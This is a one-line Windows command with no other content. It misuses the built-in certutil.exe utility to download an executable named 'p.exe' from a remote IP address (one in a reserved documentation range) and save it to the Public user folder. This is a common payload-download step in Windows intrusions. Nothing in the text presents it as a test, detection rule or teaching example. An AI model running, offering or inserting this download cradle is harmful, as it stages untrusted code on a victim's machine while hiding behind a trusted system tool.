certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\Users\Public\p.exe
